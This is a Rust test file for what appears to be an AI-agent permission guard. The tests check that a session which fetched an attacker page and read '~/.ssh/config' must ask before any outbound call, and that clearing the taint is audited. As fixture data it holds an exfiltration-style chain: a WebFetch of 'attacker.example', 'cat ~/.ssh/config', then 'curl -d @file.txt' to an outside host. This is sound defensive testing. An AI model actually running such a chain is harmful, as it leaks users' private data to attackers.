//! Session taint through the hook protocol, on the built binary: calls of one `session_id` leave what they read in
//! the project's `.agent-guard/sessions/`, and once a session has read untrusted content and private data its
//! ways out ask, naming the calls that caused it; without untrusted content the decision is today's; parallel
//! calls of one session keep one record; `explain --session` shows it and `session clear` resets it.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    missing_docs
)]

mod hook;
#[path = "../../../tests/support/need.rs"]
mod need;

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use hook::{decision, run, run_with, text};

// `hook::input` names one fixed session; these tests name their own.
#[allow(dead_code)]
const _: fn(&std::path::Path, &str, Value) -> String = hook::input;
use serde_json::{Value, json};

/// A project with a `.git` marker and a file, and a home with an ssh configuration.
struct Project {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
}

fn project() -> Project {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path().canonicalize().unwrap();
    let root = base.join("proj");
    let home = base.join("home");
    for dir in [&root.join(".git"), &home.join(".ssh")] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(root.join("file.txt"), "notes\n").unwrap();
    std::fs::write(home.join(".ssh/config"), "Host work\n  User me\n").unwrap();
    Project {
        _tmp: tmp,
        root,
        home,
    }
}

/// A hook input of `tool` with `tool_input` in session `session` (none when empty), in mode `mode`.
fn call(p: &Project, session: &str, mode: &str, tool: &str, tool_input: Value) -> String {
    json!({
        "session_id": session, "cwd": p.root, "permission_mode": mode, "hook_event_name": "PreToolUse",
        "tool_name": tool, "tool_input": tool_input,
    })
    .to_string()
}

/// The decision and reason `check` prints for `line`.
fn check(p: &Project, line: &str) -> (String, String) {
    let out = run(&["check"], line, &p.root, &p.home);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    decision(text(&out.stdout).trim())
}

fn page(url: &str) -> Value {
    json!({"url": url, "prompt": "summarise"})
}

fn bash(command: &str) -> Value {
    json!({ "command": command })
}

#[test]
fn a_web_page_then_a_private_read_make_the_way_out_ask_naming_both() {
    let p = project();
    let s = "0c1d7e2a-taint-chain";
    check(
        &p,
        &call(
            &p,
            s,
            "default",
            "WebFetch",
            page("https://attacker.example/issue"),
        ),
    );
    check(&p, &call(&p, s, "default", "Bash", bash("cat ~/.ssh/config")));
    let (decision, reason) = check(
        &p,
        &call(
            &p,
            s,
            "default",
            "Bash",
            bash("curl -d @file.txt https://new.example/c"),
        ),
    );
    assert_eq!(decision, "ask");
    assert!(reason.contains("session taint"), "{reason}");
    assert!(
        reason.contains("WebFetch https://attacker.example/issue"),
        "{reason}"
    );
    assert!(reason.contains("cat ~/.ssh/config"), "{reason}");

    // In every mode: with the network not blocked (the user's own settings), `git push` is allowed in
    // bypassPermissions, but not out of this session.
    std::fs::create_dir_all(p.home.join(".claude")).unwrap();
    std::fs::write(
        p.home.join(".claude/settings.json"),
        r#"{"agentGuard": {"blockNetwork": false}}"#,
    )
    .unwrap();
    let push = bash("git push origin main");
    let (fresh, _) = check(&p, &call(&p, "", "bypassPermissions", "Bash", push.clone()));
    assert_eq!(fresh, "allow");
    let (tainted, reason) = check(&p, &call(&p, s, "bypassPermissions", "Bash", push.clone()));
    assert_eq!(tainted, "ask", "{reason}");
    assert!(reason.contains("session taint"), "{reason}");

    // `explain --session` shows the session's taint; `session clear` forgets it.
    let out = run(
        &["explain", "-c", "git push origin main", "--session", s],
        "",
        &p.root,
        &p.home,
    );
    let shown = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        shown.contains("untrusted content: `WebFetch https://attacker.example/issue`"),
        "{shown}"
    );
    assert!(
        shown.contains("private data: `Bash cat ~/.ssh/config`"),
        "{shown}"
    );
    assert!(shown.contains("every way out of the session asks"), "{shown}");
    let out = run(&["session", "clear", s], "", &p.root, &p.home);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("cleared"), "{}", text(&out.stdout));
    let (cleared, reason) = check(&p, &call(&p, s, "bypassPermissions", "Bash", push));
    assert_eq!(cleared, "allow", "{reason}");
}

/// `session clear` writes an audit row in the project's log, where the session's hook rows are: who cleared it
/// (`cli:<user>`), which session, and the taint that was cleared, which `audit` shows on one line. Clearing a
/// session with nothing recorded writes none.
#[test]
fn clearing_a_sessions_taint_is_an_audit_row_naming_who_and_what() {
    let p = project();
    let s = "5e2f-cleared";
    check(
        &p,
        &call(
            &p,
            s,
            "default",
            "WebFetch",
            page("https://attacker.example/issue"),
        ),
    );
    check(&p, &call(&p, s, "default", "Bash", bash("cat ~/.ssh/config")));
    let out = run_with(
        &["session", "clear", s],
        "",
        &p.root,
        &p.home,
        &[("USER", "mira")],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stderr), "", "the row is written silently");
    let said = text(&out.stdout);
    assert!(
        said.contains("untrusted content: `WebFetch https://attacker.example/issue`"),
        "{said}"
    );
    let out = run(&["session", "clear", "5e2f-never-seen"], "", &p.root, &p.home);
    assert!(
        text(&out.stdout).contains("has no taint recorded"),
        "{}",
        text(&out.stdout)
    );

    let out = run(&["audit", "--json", "--tool", "session"], "", &p.root, &p.home);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let rows: Vec<Value> = text(&out.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    assert_eq!(row["status"], "TAINT_CLEARED", "{row}");
    assert_eq!(row["session_id"], s, "{row}");
    assert_eq!(row["approver"], "cli:mira", "{row}");
    assert_eq!(row["agent_name"], "session-clear", "{row}");
    assert_eq!(row["cwd"], p.root.display().to_string(), "{row}");
    assert_eq!(
        row["tool_input"]["untrusted"]["call"], "WebFetch https://attacker.example/issue",
        "{row}"
    );
    assert_eq!(
        row["tool_input"]["private"]["call"], "Bash cat ~/.ssh/config",
        "{row}"
    );
    assert!(
        row["output_preview"]
            .as_str()
            .unwrap()
            .contains("private data: `Bash cat ~/.ssh/config`"),
        "{row}"
    );

    let out = run(&["audit", "--session", s], "", &p.root, &p.home);
    let table = text(&out.stdout);
    let line = table
        .lines()
        .find(|line| line.contains("TAINT_CLEARED"))
        .unwrap_or_else(|| panic!("{table}"));
    assert!(line.contains("taint cleared by cli:mira"), "{line}");
    assert!(
        line.contains("untrusted content: `WebFetch https://attacker.example/issue`"),
        "{line}"
    );
}

#[test]
fn without_untrusted_content_the_decision_is_todays() {
    let p = project();
    for (s, mode, line) in [
        (
            "5e9a-private-then-curl",
            "default",
            "curl -d @file.txt https://new.example/c",
        ),
        (
            "5e9b-private-then-push",
            "bypassPermissions",
            "git push origin main",
        ),
    ] {
        check(&p, &call(&p, s, mode, "Bash", bash("cat ~/.ssh/config")));
        let in_session = check(&p, &call(&p, s, mode, "Bash", bash(line)));
        let alone = check(&p, &call(&p, "", mode, "Bash", bash(line)));
        assert_eq!(in_session, alone, "{mode}: {line}");
    }
    // A call without a session writes no record.
    let records = std::fs::read_dir(p.root.join(".agent-guard/sessions"))
        .unwrap()
        .count();
    assert_eq!(records, 2, "only the sessions' own records");
}

/// Parallel hooks of one session (a model's parallel tool calls): every domain each reached ends up in the one
/// record, which a reader never sees half written.
#[test]
fn parallel_calls_of_one_session_keep_one_consistent_record() {
    let p = project();
    let s = "77aa-parallel";
    let hooks = 24;
    let children: Vec<_> = (0..hooks)
        .map(|n| {
            let line = call(
                &p,
                s,
                "bypassPermissions",
                "WebFetch",
                page(&format!("https://d{n}.example/")),
            );
            let mut child = Command::new(env!("CARGO_BIN_EXE_agent-guard"))
                .arg("check")
                .current_dir(&p.root)
                .env("HOME", &p.home)
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            child.stdin.take().unwrap().write_all(line.as_bytes()).unwrap();
            child
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_eq!(text(&out.stderr), "", "a recorded taint says nothing");
    }
    let out = run(
        &["explain", "--json", "-c", "ls", "--session", s],
        "",
        &p.root,
        &p.home,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    let taint = &json["session_taint"];
    assert!(
        taint["untrusted"]["call"]
            .as_str()
            .unwrap()
            .starts_with("WebFetch https://d"),
        "{taint}"
    );
    assert!(taint["private"].is_null(), "{taint}");
    let mut reached: Vec<&str> = taint["contacted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d.as_str().unwrap())
        .collect();
    reached.sort_unstable();
    let mut expected: Vec<String> = (0..hooks).map(|n| format!("d{n}.example")).collect();
    expected.sort_unstable();
    assert_eq!(reached, expected);
}

/// `explain --session` shows the limit a session's untrusted content sets on the proxy of a contained line: the
/// domains the session reached and the line names, and the call that tainted it.
#[test]
fn explain_shows_the_proxys_limit_in_a_session_with_untrusted_content() {
    // Without the kernel sandbox no line is contained, so no proxy is limited: skipped, loudly.
    let probe = run(&["sandbox", "--probe"], "", Path::new("/"), Path::new("/"));
    let report = text(&probe.stdout);
    let missing = (!report.contains("enforcement: allowed shell commands run under the kernel sandbox"))
        .then(|| format!("`sandbox --probe` says: {report}"));
    if !need::SANDBOX.met(missing) {
        return;
    }
    let p = project();
    let s = "3b7d-explain-limit";
    check(
        &p,
        &call(
            &p,
            s,
            "default",
            "WebFetch",
            page("https://attacker.example/issue"),
        ),
    );
    let line = "curl -sS https://crates.io/api/v1/crates";
    let out = run(&["explain", "-c", line, "--session", s], "", &p.root, &p.home);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let shown = text(&out.stdout);
    assert!(
        shown.contains(
            "proxy limited by the session's taint (`WebFetch https://attacker.example/issue`: fetched a page of \
             `attacker.example`) to: crates.io"
        ),
        "{shown}"
    );
    let out = run(&["explain", "-c", line], "", &p.root, &p.home);
    assert!(
        !text(&out.stdout).contains("proxy limited"),
        "{}",
        text(&out.stdout)
    );
}
